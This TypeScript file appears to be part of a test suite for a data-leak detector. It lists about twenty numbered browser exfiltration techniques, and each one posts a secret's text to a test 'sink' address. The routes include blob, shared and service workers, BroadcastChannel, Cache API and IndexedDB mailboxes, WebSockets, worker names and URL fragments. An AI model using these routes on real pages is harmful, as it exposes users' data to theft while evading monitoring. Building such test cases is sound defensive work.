import { type Attack, row, type Secret, variant } from '../attack.ts';
import { note } from './bodies.ts';

/** Finds every text and buffer in what it is sent and posts it to the address beside it. */
const RELAY = `const send = ({ url, text }) => fetch(url, { method: 'POST', body: text });`;

function blobWorker(source: string, options?: WorkerOptions): Worker {
  return new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })), options);
}

function job(secret: Secret) {
  return { url: `${secret.sink}worker`, text: note(secret.text) };
}

function ready(worker: Worker): Promise<void> {
  return new Promise((resolve) => worker.addEventListener('message', () => resolve(), { once: true }));
}

/** Threads beside the page. */
export const WORKERS: readonly Attack[] = [
  row('20', 'blob worker, postMessage', (secret) =>
    blobWorker(`${RELAY} onmessage = (event) => send(event.data);`).postMessage(job(secret)),
  ),
  variant('20b', 'module blob worker, postMessage', (secret) =>
    blobWorker(`${RELAY} onmessage = (event) => send(event.data);`, { type: 'module' }).postMessage(job(secret)),
  ),
  variant('20c', 'XMLHttpRequest in a blob worker', (secret) =>
    blobWorker(
      `onmessage = ({ data }) => { const x = new XMLHttpRequest(); x.open('POST', data.url, false); x.send(data.text); };`,
    ).postMessage(job(secret)),
  ),
  variant('20d', 'worker inside a worker', (secret) => {
    const inner = `${RELAY} onmessage = (event) => send(event.data);`;
    blobWorker(
      `onmessage = ({ data }) => new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}]))).postMessage(data);`,
    ).postMessage(job(secret));
  }),
  row('21', 'worker from a file, postMessage', (secret) => new Worker(`${secret.sink}worker.js`).postMessage(job(secret))),
  variant('21b', 'module worker from a file, postMessage', (secret) =>
    new Worker(`${secret.sink}worker.js`, { type: 'module' }).postMessage(job(secret)),
  ),
  row('22', 'SharedWorker port', (secret) => new SharedWorker(`${secret.sink}shared.js`).port.postMessage(job(secret))),
  row('23', "the page's service worker", async (secret) => {
    const registration = await navigator.serviceWorker.register(`${secret.sink}sw/worker.js`);
    const worker = registration.installing ?? registration.waiting ?? registration.active;
    worker?.postMessage(job(secret));
  }),
  row('53', 'buffer nested in a message to a worker', (secret) => {
    const worker = blobWorker(`onmessage = ({ data }) => fetch(data.url, { method: 'POST', body: data.deep[0].bytes });`);
    worker.postMessage({ url: `${secret.sink}nested`, deep: [{ bytes: new TextEncoder().encode(note(secret.text)).buffer }] });
  }),
  row('54', 'BroadcastChannel into a worker', async (secret) => {
    const name = `channel ${secret.sink}`;
    const worker = blobWorker(
      `${RELAY} new BroadcastChannel(${JSON.stringify(name)}).onmessage = (event) => send(event.data); postMessage('ready');`,
    );
    await ready(worker);
    // The browser learns of a channel later than its worker says that it stands.
    const channel = new BroadcastChannel(name);
    for (let times = 0; times < 5; times += 1) {
      channel.postMessage(job(secret));
      await new Promise((resolve) => setTimeout(resolve, 150));
    }
  }),
  row('55', 'value in the source of a blob worker', (secret) => {
    const { url, text } = job(secret);
    blobWorker(`${RELAY} send({ url: ${JSON.stringify(url)}, text: ${JSON.stringify(text)} });`);
  }),
  row('56', 'Cache API as a mailbox to a worker', async (secret) => {
    const worker = blobWorker(
      `onmessage = async ({ data }) => { const found = await (await caches.open('mail')).match(data.key); fetch(data.url, { method: 'POST', body: await found.text() }); };`,
    );
    const key = `${secret.sink}letter`;
    await (await caches.open('mail')).put(key, new Response(note(secret.text)));
    worker.postMessage({ key, url: `${secret.sink}cached` });
  }),
  row('58', 'WebSocket inside a blob worker', (secret) => {
    const address = `${secret.sink.replace(/^http/, 'ws')}socket`;
    blobWorker(`onmessage = ({ data }) => { const s = new WebSocket(data.url); s.onopen = () => s.send(data.text); };`).postMessage({
      url: address,
      text: note(secret.text),
    });
  }),
  variant('58b', 'WebSocket inside a SharedWorker', (secret) => {
    const address = `${secret.sink.replace(/^http/, 'ws')}socket`;
    new SharedWorker(`${secret.sink}shared.js`).port.postMessage({ socket: address, text: note(secret.text) });
  }),
  row('81', 'name of a worker from a file', (secret) => {
    const { url, text } = job(secret);
    return new Worker(`${secret.sink}worker.js`, { name: JSON.stringify({ url, text }) });
  }),
  variant('81b', 'name of a shared worker', (secret) => {
    const { url, text } = job(secret);
    return new SharedWorker(`${secret.sink}shared.js`, JSON.stringify({ url, text }));
  }),
  variant('81c', 'name of a blob worker', (secret) => {
    const { url, text } = job(secret);
    blobWorker(`${RELAY} send(JSON.parse(name));`, { name: JSON.stringify({ url, text }) });
  }),
  row('82', 'fragment of a worker’s address', (secret) => {
    const { url, text } = job(secret);
    return new Worker(`${secret.sink}worker.js#${encodeURIComponent(JSON.stringify({ url, text }))}`);
  }),
  row('83', 'IndexedDB as a mailbox to a worker from a file', async (secret) => {
    const { url, text } = job(secret);
    await new Promise((resolve) => {
      const open = indexedDB.open(secret.sink);
      open.onupgradeneeded = () => open.result.createObjectStore('mail');
      open.onsuccess = () => {
        const put = open.result.transaction('mail', 'readwrite');
        put.objectStore('mail').put(text, 'letter');
        put.oncomplete = resolve;
      };
    });
    new Worker(`${secret.sink}worker.js`).postMessage({ mail: secret.sink, url });
  }),
  variant('23b', 'port handed to the service worker', async (secret) => {
    const registration = await navigator.serviceWorker.register(`${secret.sink}sw/worker.js`);
    const worker = registration.installing ?? registration.waiting ?? registration.active;
    const { port1, port2 } = new MessageChannel();
    worker?.postMessage('port', [port2]);
    port1.postMessage(job(secret));
  }),
];
